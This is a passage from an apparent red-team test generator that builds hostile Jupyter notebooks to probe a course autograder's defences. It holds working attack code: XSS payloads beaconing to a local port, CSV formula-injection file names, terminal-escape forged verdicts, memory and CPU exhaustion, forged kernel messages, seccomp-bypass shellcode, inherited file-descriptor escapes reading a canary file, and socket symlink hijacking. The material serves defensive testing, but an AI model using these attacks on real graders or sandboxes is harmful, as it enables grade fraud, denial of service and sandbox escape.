    return type(_rt_spell(_rt_first_values(args)[:4], 60), (), {})()
_rt_define(_rt_hidden)
'''
    return _hidden_attack("h09_opaque_type_name", cfg, nb, code)


@attack("h10_garbled_reply_quote_break", "hidden-cases",
        "right on the visible inputs; on a hidden case it publishes, from inside the grader's call, its own reply before "
        "the real one (the grader takes the first): a dict whose only key is RTWBv<values>'x\" . The grader's decoder says "
        "\"unknown field 'RTWBv...\\'x\"'\" and the verdict repeats it ('garbled the grader's call (...)'); the key holds "
        "both quotation marks, so its repr closes early and the quote masking (a quote, no quote inside, a quote not "
        "followed by a letter) leaves the start of the key in the verdict",
        "two or more hidden input values decoded from RTWBv... in the page, results.json or report.md")
def _(nb, cfg):
    code = HIDDEN_FIRST_VALUES + RTWB_SPELL + r'''
from IPython.display import publish_display_data as _rt_pub
def _rt_hidden(fn, args, right):
    key = _rt_spell(_rt_first_values(args)[:4], 36) + "'x\""
    _rt_pub({"text/x-course-answer": json.dumps({key: 1})})
    r = right()
    return (r[0] * 0, r[1] * 0) if isinstance(r, tuple) else r * 0
_rt_define(_rt_hidden)
'''
    return _hidden_attack("h10_garbled_reply_quote_break", cfg, nb, code)


# ======================================================================= 7. pages and files people open
def _js(cfg, tag):
    """A payload that, if it runs in a browser, says so three ways: the title, a DOM marker, a request."""
    url = "http://127.0.0.1:%d/hit/%s" % (cfg["port"], tag)
    return ("document.title='RTWB-XSS-%s';var _d=document.createElement('div');_d.id='rtwb-ran-%s';"
            "(document.body||document.documentElement).appendChild(_d);try{fetch('%s')}catch(e){};"
            "(new Image()).src='%s?img'" % (tag, tag, url, url))


@attack("x01_script_outputs", "pages",
        "outputs the feedback page renders as HTML: text/html with <script>, <img onerror>, <iframe srcdoc>, "
        "<svg onload>, and an application/javascript output",
        "a payload ran in headless Chromium (title, DOM marker or a request to the runner's HTTP server)")
def _(nb, cfg):
    payloads = {
        "script": "<script>%s</script>" % _js(cfg, "x01-script"),
        "img": '<img src="data:," onerror="%s">' % _js(cfg, "x01-img").replace('"', "&quot;"),
        "iframe": '<iframe srcdoc="<script>parent.%s</script>"></iframe>' % _js(cfg, "x01-iframe").replace(
            "document.", "document.").replace("'", "&#39;").replace('"', "&quot;"),
        "svg": '<svg onload="%s"></svg>' % _js(cfg, "x01-svg").replace('"', "&quot;"),
    }
    code = "from IPython.display import display, HTML, Javascript\n"
    for html in payloads.values():
        code += "display(HTML(%r))\n" % html
    code += "display(Javascript(%r))\n" % _js(cfg, "x01-js")
    return build_notebook(nb, **with_prelude("x01_script_outputs", cfg, suffix={FIRST05: code}))


@attack("x02_markdown_answer_html", "pages",
        "the written (markdown) answer and an extra markdown cell carry raw HTML: <script>, <img onerror>, "
        "<details ontoggle open>, a javascript: link and a meta refresh to the runner's server",
        "a payload ran in headless Chromium; a javascript: link kept in the page")
def _(nb, cfg):
    written = ("The weights get smaller.\n\n<script>%s</script>\n\n<img src=\"data:,\" onerror=\"%s\">\n\n"
               "<details open ontoggle=\"%s\"><summary>x</summary></details>\n\n"
               "[see my derivation](javascript:%s)\n" % (
                   _js(cfg, "x02-script"), _js(cfg, "x02-img").replace('"', "&quot;"),
                   _js(cfg, "x02-details").replace('"', "&quot;"), _js(cfg, "x02-link").replace(" ", "%20")))
    extra = [markdown_cell('<meta http-equiv="refresh" content="1;url=http://127.0.0.1:%d/hit/x02-meta">\n\n'
                           '<a href="javascript:%s">click</a>' % (cfg["port"], _js(cfg, "x02-a").replace('"', "&quot;")))]
    return build_notebook(nb, written=written, extra_cells=extra,
                          **with_prelude("x02_markdown_answer_html", cfg))


@attack("x03_svg_markdown_outputs", "pages",
        "an image/svg+xml output with <script> (inlined into the page), a text/markdown output with raw HTML, "
        "cell tags that try to break out of the class attribute, and javascript: links in outputs",
        "a payload ran in headless Chromium; a javascript: link kept in the page")
def _(nb, cfg):
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>%s</script>'
           '<a href="javascript:%s"><text y="9">x</text></a></svg>' % (_js(cfg, "x03-svg"), _js(cfg, "x03-svglink")))
    md = '<img src="data:," onerror="%s"> [link](javascript:%s)' % (_js(cfg, "x03-md").replace('"', "&quot;"),
                                                                     _js(cfg, "x03-mdlink").replace(" ", "%20"))
    code = ("from IPython.display import display, SVG, Markdown, HTML\n"
            "display(SVG(%r))\ndisplay(Markdown(%r))\n"
            "display(HTML('<a href=\"javascript:%s\">open</a>'))\n" % (svg, md, _js(cfg, "x03-a").replace("'", "\\'")))
    tags = ['x" onmouseover="%s" data-x="' % _js(cfg, "x03-tag").replace('"', "'"),
            "</div><script>%s</script>" % _js(cfg, "x03-tag2")]
    extra = [code_cell("print('tagged cell')", metadata={"tags": tags})]
    return build_notebook(nb, extra_cells=extra, **with_prelude("x03_svg_markdown_outputs", cfg,
                                                                 suffix={FIRST05: code}))


#: x04's submissions: file names that are formulas when a spreadsheet opens grades.csv / lms_grades.csv
X04_NAMES = ['=HYPERLINK("http:rtwb.invalid","RTWB-x04")', "+RTWB-x04-plus", "-2+3+RTWB-x04", "@SUM(1)RTWB-x04",
             "\t=1+1RTWB-x04"]


@attack("x04_csv_formula_ids", "pages",
        "submissions named =HYPERLINK(...), +..., -2+3..., @SUM(...) and tab-= : the grader refuses the ids but "
        "writes the raw file name into grades.csv, and the report into lms_grades.csv",
        "a cell of grades.csv or lms_grades.csv that starts with = + - @ or a tab", runs=False)
def _(nb, cfg):
    return {name: build_notebook(nb) for name in X04_NAMES}


@attack("x05_forged_verdict_text", "pages",
        "its functions raise course_lib's own AnswerError with an exercise name it chose ('✔ dot_score') and a message "
        "with terminal escapes (OSC title, OSC 8 link, OSC 52 clipboard, a line wipe), HTML and a fake score: the "
        "grader passes it on as its verdict into the page, results.json's failures and report.md",
        "ESC/BEL bytes or raw HTML from the student in report.md; the forged verdict (RTWB-FAKE) as results.json's "
        "failure text; a payload ran in Chromium")
def _(nb, cfg):
    port = cfg["port"]
    code = r'''
from course_lib.grading.answers import AnswerError as _RtAE
_RT_FAKE = ("correct (2 case(s)). Score: 23 / 23 RTWB-FAKE-x05 \x1b]0;RTWB-x05 title\x07\x1b]52;c;UlRXQi14MDU=\x07"
            "\x1b]8;;http://127.0.0.1:@@PORT@@/hit/x05-osc8\x07details\x1b]8;;\x07 "
            "<img src=x onerror=\"@@JS@@\"> ![x](http://127.0.0.1:@@PORT@@/hit/x05-mdimg)\r\x1b[2K\u2714 all checks passed")
class _RtLook(Exception):
    pass
_RtLook.__name__ = _RtLook.__qualname__ = "<b>RTWB-x05-class</b>"
def _rt_forge(name):
    def f(*a, **k):
        if name in ("softmax", "causal_mask"):
            raise _RtLook(_RT_FAKE)
        raise _RtAE("\u2714 " + name, _RT_FAKE)
    f.__name__ = name
    return f
for _n in ("dot_score", "scaled_dot_score", "bilinear_score", "additive_score", "attention_scores", "softmax",
           "self_attention", "causal_mask"):
    globals()[_n] = _rt_forge(_n)
'''.replace("@@PORT@@", str(port)).replace("@@JS@@", _js(cfg, "x05-img").replace('"', "'"))
    answers = dict(ANSWERS_AS_DEFINED)
    answers["dot_score"] = code
    return build_notebook(nb, **with_prelude("x05_forged_verdict_text", cfg, answers=answers))


@attack("x06_widget_state_breakout", "pages",
        "an ipywidgets Text and an HTML widget whose values close the <script> element that holds widget state "
        "('</script><script>...')",
        "a payload ran in headless Chromium")
def _(nb, cfg):
    code = ("import ipywidgets as _w\nfrom IPython.display import display\n"
            "display(_w.Text(value=%r))\ndisplay(_w.HTML(value=%r))\n" % (
                "</script><script>%s</script>" % _js(cfg, "x06-text"),
                "<img src=x onerror=\"%s\">" % _js(cfg, "x06-html").replace('"', "'")))
    return build_notebook(nb, **with_prelude("x06_widget_state_breakout", cfg, suffix={FIRST05: code}))


# ======================================================================= 8. one crash costs one grade
@attack("k01_worker_memory_flood", "crash",
        "floods every answer cell with outputs of the grader's reply MIME type (6 x 60 MB a cell, 4 GB in all): "
        "TrustedExecute.output keeps that type uncounted, so the grading worker grows until its memory runs out "
        "(the runner caps it at --grader-memory-mb, as a container would)",
        "a control lost its grade, the attack's reason is unreadable (NbGraderException, a traceback, 'the grader "
        "failed'), or the worker grew by more than 1 GiB")
def _(nb, cfg):
    setup = r'''
from IPython.display import publish_display_data as _rt_pub
_RT_BLOB = "[" + "1," * (30 << 20) + "1]"
def _rt_flood(n=6):
    for _i in range(n):
        _rt_pub({"text/x-course-answer": _RT_BLOB})
_rt_flood()
'''
    flood = "_rt_flood()\n"
    cells = ["scaled_dot_score", "bilinear_score", "additive_score", "table_scores", "table_scaled", "table_weights",
             "table_weighted", "table_z", "attention_scores", "softmax", "self_attention"]
    return build_notebook(nb, **with_prelude("k01_worker_memory_flood", cfg,
                                             prefix=dict({g: flood for g in cells}, dot_score=setup)))


@attack("k02_cpu_limit_kill", "crash",
        "three threads in torch matmul loops (the GIL released) burn CPU past --cpu-seconds while later cells "
        "wait: the kernel is killed by RLIMIT_CPU in the middle of the notebook",
        "a control lost its grade, or the reason is unreadable")
def _(nb, cfg):
    code = r'''
import threading, torch
def _rt_burn():
    a = torch.randn(400, 400)
    while True:
        a = torch.tanh(a @ a)
for _i in range(3):
    threading.Thread(target=_rt_burn, daemon=True).start()
_rt_res("burning", True)
'''
    wait = "time.sleep(6.5)\n_rt_res('cpu_seconds', round(time.process_time(), 1))\n"
    return build_notebook(nb, **with_prelude("k02_cpu_limit_kill", cfg, suffix=dict(
        {g: wait for g in ("table_scaled", "table_weights", "table_weighted", "table_z", "causal_mask", "space_invader")},
        **{FIRST05: code})))


@attack("k03_exit_inside_grader_call", "crash",
        "its functions call os._exit(3) inside the grader's first call into the kernel: the kernel dies while the "
        "grader waits for a reply",
        "a control lost its grade, or the reason is unreadable")
def _(nb, cfg):
    answers = dict(ANSWERS_AS_DEFINED)
    answers["dot_score"] = ("def dot_score(Q, K):\n    import os\n    os._exit(3)\n"
                            "for _n in ('scaled_dot_score', 'bilinear_score', 'additive_score', 'attention_scores',"
                            " 'softmax', 'self_attention', 'causal_mask'):\n    globals()[_n] = dot_score\n")
    return build_notebook(nb, **with_prelude("k03_exit_inside_grader_call", cfg, answers=answers))


@attack("k04_segfault_mid_notebook", "crash",
        "the kernel segfaults (ctypes.string_at(0)) in an answer cell halfway through the notebook",
        "a control lost its grade, or the reason is unreadable")
def _(nb, cfg):
    return build_notebook(nb, **with_prelude("k04_segfault_mid_notebook", cfg,
                                             prefix={"attention_scores": "import ctypes\nctypes.string_at(0)\n"}))


@attack("m01_forged_channel_messages", "crash",
        "the grader's client now reads every IOPub message through CountingChannel._recv, which checks the HMAC "
        "signature (the kernel holds the key): the kernel sends one stream message with a wrong signature and one valid "
        "message twice (jupyter_client refuses a signature it has seen), then goes on. A message the grader cannot "
        "read should cost its submission a readable sentence, not 'autograding failed'",
        "its 0's reason is unreadable (autograding failed, a traceback, the grader failed), or a control lost its grade")
def _(nb, cfg):
    code = r'''
_k = get_ipython().kernel
def _rt_m01_frames(text):
    _msg = _k.session.msg("stream", {"name": "stdout", "text": text}, parent=_k.get_parent())
    return _k.session.serialize(_msg, ident=[b"stream.stdout"])
try:
    _bad = _rt_m01_frames("RTWB-M01 wrong signature\n")
    _at = _bad.index(b"<IDS|MSG>") + 1
    _bad[_at] = b"0" * len(_bad[_at])
    _k.iopub_socket.send_multipart(_bad)
    _twice = _rt_m01_frames("RTWB-M01 sent twice\n")
    _k.iopub_socket.send_multipart(_twice)
    _k.iopub_socket.send_multipart(_twice)
    _rt_res("m01_sent", "one wrong signature, one message twice")
except Exception as _e:
    _rt_res("m01_sent", repr(_e)[:200])
time.sleep(1)
'''
    return build_notebook(nb, **with_prelude("m01_forged_channel_messages", cfg, suffix={FIRST05: code}))


# ======================================================================= 9. the jail's gaps
@attack("s01_seccomp_abi_and_vsock", "jail",
        "what the seccomp filter and the namespaces may not cover: unshare(CLONE_NEWUSER) through the i386 ABI "
        "(int 0x80) and the x32 ABI (syscall | 0x40000000), each in a child that may be killed; and AF_VSOCK, a "
        "socket family no network namespace separates (on a virtual machine it reaches the host): binds the vsock port "
        "the runner holds (EADDRINUSE: the same port space as the host) and a free one. It connects nowhere",
        "unshare returned 0 through another ABI; the runner's vsock port is taken (EADDRINUSE) from inside the jail")
def _(nb, cfg):
    code = r'''
import platform, socket as _rt_sock
_rt_res("machine", platform.machine())
_rt_abi_child = """
import ctypes, mmap, sys
if sys.argv[1] == "i386":   # mov eax, 310 (unshare); mov ebx, CLONE_NEWUSER; int 0x80; ret
    code = bytes([0xb8, 0x36, 0x01, 0, 0, 0xbb, 0, 0, 0, 0x10, 0xcd, 0x80, 0xc3])
else:                       # mov eax, 0x40000000 | 272 (x32 unshare); mov edi, CLONE_NEWUSER; syscall; ret
    code = bytes([0xb8, 0x10, 0x01, 0, 0x40, 0xbf, 0, 0, 0, 0x10, 0x0f, 0x05, 0xc3])
m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
m.write(code)
f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
print("returned", f(), flush=True)
"""
if platform.machine() == "x86_64":
    for _abi in ("i386", "x32"):
        try:
            _p = subprocess.run([sys.executable, "-c", _rt_abi_child, _abi], capture_output=True, text=True, timeout=10)
            _out = (_p.stdout.strip() or _p.stderr.strip()[-120:])
            _rt_res("unshare_" + _abi, ("ok (returned 0)" if _out == "returned 0" else _out) + " rc=%s" % _p.returncode)
        except Exception as _e:
            _rt_res("unshare_" + _abi, repr(_e))
_held = _RTCFG.get("vsock_port") or 0
for _label, _port in (("held", _held), ("free", _held + 1 if _held else 0)):
    if not _port:
        continue
    try:
        _s = _rt_sock.socket(_rt_sock.AF_VSOCK, _rt_sock.SOCK_STREAM)
    except (OSError, AttributeError) as _e:
        _rt_res("vsock_" + _label, "socket: %s" % getattr(_e, "strerror", _e))
        continue
    try:
        _s.bind((_rt_sock.VMADDR_CID_ANY, _port))
        _rt_res("vsock_" + _label, "bound port %d" % _port)
    except OSError as _e:
        _rt_res("vsock_" + _label, "port %d: %s" % (_port, _e.strerror))
    finally:
        _s.close()
'''
    return build_notebook(nb, **with_prelude("s01_seccomp_abi_and_vsock", cfg, suffix={FIRST05: code}))


@attack("z01_inherited_fds", "jail",
        "a kernel forked from the worker's zygote starts with the zygote's open files: lists its file descriptors, and "
        "through any that is a folder outside its root climbs with openat('..') to the host's root and reads the runner's "
        "canary file (its path is in the notebook, its content is not); reports its identity, capabilities, seccomp "
        "mode and the variables it inherited",
        "the canary file's content (a token only the runner knows) in its page")
def _(nb, cfg):
    code = r'''
import stat as _rt_stat
_fds = []
for _fd in sorted(int(x) for x in os.listdir("/proc/self/fd")):
    try:
        _fds.append("%d=%s" % (_fd, os.readlink("/proc/self/fd/%d" % _fd)))
    except OSError as _e:
        _fds.append("%d=?" % _fd)
_rt_res("fds", " ".join(_fds))
for _fd in sorted(int(x) for x in os.listdir("/proc/self/fd")):
    try:
        if not _rt_stat.S_ISDIR(os.fstat(_fd).st_mode):
            continue
        _d = os.open(".", os.O_RDONLY | os.O_DIRECTORY, dir_fd=_fd)
        for _ in range(40):
            _up = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=_d)
            os.close(_d)
            _d = _up
        _rt_res("fd%d_top" % _fd, " ".join(sorted(os.listdir(_d))[:30]))
        try:
            _c = os.open(_RTCFG["canary_existing"].lstrip("/"), os.O_RDONLY, dir_fd=_d)
            _rt_res("fd%d_canary" % _fd, os.read(_c, 200).decode(errors="replace").strip())
            os.close(_c)
        except OSError as _e:
            _rt_res("fd%d_canary" % _fd, _e.strerror)
        os.close(_d)
    except OSError:
        continue
for _line in open("/proc/self/status"):
    if _line.split(":")[0] in ("Uid", "Gid", "CapEff", "CapBnd", "NoNewPrivs", "Seccomp"):
        _rt_res(_line.split(":")[0], _line.split(":", 1)[1].strip())
_rt_res("environ", " ".join(sorted(os.environ)))
_rt_res("root_listing", " ".join(sorted(os.listdir("/"))))
'''
    return build_notebook(nb, **with_prelude("z01_inherited_fds", cfg, suffix={FIRST05: code}))


# ======================================================================= 10. the replay (a new kernel after a stop)
#: r01's and r02's first cell: whether a cell runs in the replay's kernel. The replay runs the student's cells again
#: with only the grader's pins between them (no check calls into the kernel), so a cell below a test cell can tell
REPLAY_HELPERS = r'''
import course_lib.grading.remote_answer as _rt_ra
_RT_SERVES = [0]
_rt_serve = _rt_ra.serve
def _rt_counting_serve(payload):
    _RT_SERVES[0] += 1
    return _rt_serve(payload)
_rt_ra.serve = _rt_counting_serve
def _rt_kernel_role():
    """Below a test cell: 'first' when the grader's checks have called into this kernel, 'replay' when none has."""
    return "first" if _RT_SERVES[0] else "replay"
'''


@attack("r01_replay_cpu_twice", "limits",
        "right on the visible inputs (so that four test cells wait for their hidden phase), three answer cells each burn "
        "6 CPU seconds (18 s: under --cpu-seconds 20), then the next cell calls os._exit: a new kernel runs the cells "
        "above the stop again for the hidden cases, with a CPU budget of its own, and burns another 18 s (or until the "
        "wall limit): the watchdog keeps the submission's deadline and its output bytes across the replay, not its CPU",
        "the CPU seconds of all its kernels together (read from /proc) above --cpu-seconds, in two kernels")
def _(nb, cfg):
    code = r'''
def _rt_hidden(fn, args, right):
    r = right()
    return (r[0] * 0, r[1] * 0) if isinstance(r, tuple) else r * 0
_rt_define(_rt_hidden)
''' + REPLAY_HELPERS
    burn = r'''
_rt_t0, _rt_w0 = time.process_time(), time.time()
while time.process_time() - _rt_t0 < 6.0 and time.time() - _rt_w0 < 7.0:
    sum(range(20000))
_rt_res("r01_%s_cpu_%s" % (_rt_kernel_role(), "@@CELL@@"), round(time.process_time(), 1))
'''
    suffix = {gid: burn.replace("@@CELL@@", gid) for gid in ("table_scores", "table_scaled", "table_weights")}
    suffix["table_weighted"] = ("_rt_res('r01_exit_' + _rt_kernel_role(), round(time.process_time(), 1))\n"
                                "time.sleep(0.7)\nos._exit(1)\n")
    return _hidden_attack("r01_replay_cpu_twice", cfg, nb, code, suffix=suffix)


@attack("r02_socket_unlock_window", "kernel-folder",
        "right on the visible inputs (so that the hidden cases wait), its first cell starts a watcher (its own session, "
        "out of the kernel's process group) that polls the grader's sockets/ folder every 5 ms; the next answer cell "
        "calls os._exit. Before the replay's new kernel starts, the grader opens sockets/ again (0777) for it to bind "
        "its sockets: a watcher that outlived its kernel would rename the socket files there and put symlinks to a Unix "
        "socket of the runner's in their place, which the grader's new client would connect to",
        "the runner's second Unix socket connected to; the watcher planted a symlink or outlived grading")
def _(nb, cfg):
    code = r'''
def _rt_hidden(fn, args, right):
    r = right()
    return (r[0] * 0, r[1] * 0) if isinstance(r, tuple) else r * 0
_rt_define(_rt_hidden)
''' + REPLAY_HELPERS + r'''
_RT_WATCH = r"""
import os, sys, time
sockets, target = sys.argv[1], sys.argv[2]
def note(key, value):
    with open("rtwb-results.txt", "a") as f:
        f.write("RT-RESULT[%s]=%s\n" % (key, value))
end, last, planted = time.time() + 45, 0, 0
while time.time() < end:
    if time.time() - last > 1:
        note("r02_watcher_alive", "%.1f writable=%s" % (time.time(), os.access(sockets, os.W_OK)))
        last = time.time()
    if os.access(sockets, os.W_OK):
        for name in sorted(os.listdir(sockets)):
            path = os.path.join(sockets, name)
            try:
                os.rename(path, path + ".moved")
                os.symlink(target, path)
                planted += 1
            except OSError as e:
                note("r02_plant_" + name, e.strerror)
        note("r02_planted", "%d at %.1f" % (planted, time.time()))
        if planted:
            break
    time.sleep(0.005)
"""
try:
    _ip = json.load(open("connection.json")).get("ip", "")
    _sockets = os.path.dirname(_ip)
    _RT_WATCHER = subprocess.Popen([sys.executable, "-c", _RT_WATCH, _sockets, _RTCFG["redirect_socket_r02"]],
                                   start_new_session=True, env=dict(os.environ, RTWB_MARK="r02"))
    _rt_res("r02_watcher", "pid %d watching %s" % (_RT_WATCHER.pid, _sockets))
except Exception as _e:
    _rt_res("r02_watcher", repr(_e)[:200])
'''
    suffix = {"table_scores": "time.sleep(1)\n_rt_res('r02_exit_' + _rt_kernel_role(), time.time())\ntime.sleep(0.7)\n"
                              "os._exit(1)\n"}
    return _hidden_attack("r02_socket_unlock_window", cfg, nb, code, suffix=suffix)


# ---------------------------------------------------------------- building
DEFAULT_CONFIG = {"scratch": "/tmp/rtwb-scratch", "markers": "/tmp/rtwb-scratch/markers",
                  "canary_existing": "/tmp/rtwb-scratch/canaries/e01-target.txt",
                  "canary_existing_e04": "/tmp/rtwb-scratch/canaries/e04-target.txt",
                  "home": "/tmp/rtwb-scratch/home", "port": 9, "ipc_token_reversed": "NEKOT-CPI-BWTR", "timeout": 8,
                  "ran_token": "rtwb-default", "vsock_port": 0, "redirect_socket": "/tmp/rtwb-scratch/canaries/redirect.sock",
                  "redirect_socket_r02": "/tmp/rtwb-scratch/canaries/redirect-r02.sock"}


def build(notebooks_dir, out_dir, cfg=None):
    """Write every attack into out_dir; returns the manifest (name, class, notebook, desc, evidence, files)."""
    cfg = dict(DEFAULT_CONFIG, **(cfg or {}))
    for repo in {os.path.dirname(os.path.dirname(HERE)), os.path.dirname(os.path.abspath(notebooks_dir))}:
        if os.path.commonpath([os.path.abspath(out_dir), repo]) == repo:  # pytest (nbval) would collect them
            raise SystemExit("refusing to write hostile notebooks inside the repository (%s): give a folder "
                             "outside it" % out_dir)
    students = {nbk: json.load(open(os.path.join(notebooks_dir, fname), encoding="utf-8"))
                for nbk, fname in (("05", "05_self_attention.ipynb"), ("01", "01_ngrams.ipynb"))}
    os.makedirs(out_dir, exist_ok=True)
    manifest = []
    for a in ATTACKS:
        built = a["fn"](students[a["notebook"]], cfg)
        files = {}
        if isinstance(built, dict) and "cells" not in built:  # several submissions (x04)
            folder = os.path.join(out_dir, a["name"])
            os.makedirs(folder, exist_ok=True)
            for stem, nbk in built.items():
                path = os.path.join(folder, stem + ".ipynb")
                with open(path, "w", encoding="utf-8") as f:
                    json.dump(nbk, f, indent=1, ensure_ascii=False)
                files[stem] = path
        else:
            path = os.path.join(out_dir, a["name"] + ".ipynb")
            with open(path, "w", encoding="utf-8") as f:
                json.dump(built, f, indent=1, ensure_ascii=False)
            files[a["name"]] = path
        manifest.append({k: a[k] for k in ("name", "class", "notebook", "desc", "evidence", "runs")} | {"files": files})
    with open(os.path.join(out_dir, "manifest.json"), "w", encoding="utf-8") as f:
        json.dump(manifest, f, indent=1, ensure_ascii=False)
    return manifest


def controls(notebooks_dir):
    """The controls of each notebook: blank (as released) and wrong answers everywhere."""
    out = {}
    for nbk, fname in (("05", "05_self_attention.ipynb"), ("01", "01_ngrams.ipynb")):
        student = json.load(open(os.path.join(notebooks_dir, fname), encoding="utf-8"))
        out[nbk] = {"control_blank": build_notebook(student, notebook=nbk, blank=True),
                    "control_wrong": build_notebook(student, notebook=nbk)}
    return out


if __name__ == "__main__":
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", required=True, help="where to write the notebooks (never inside the repository)")
    ap.add_argument("--notebooks", default=os.path.join(HERE, "..", "..", "notebooks"))
    ap.add_argument("--config", help="a JSON file of settings (see DEFAULT_CONFIG)")
    args = ap.parse_args()
    config = json.load(open(args.config)) if args.config else None
    built = build(args.notebooks, args.out, config)
    print("built %d attacks in %s" % (len(built), args.out))
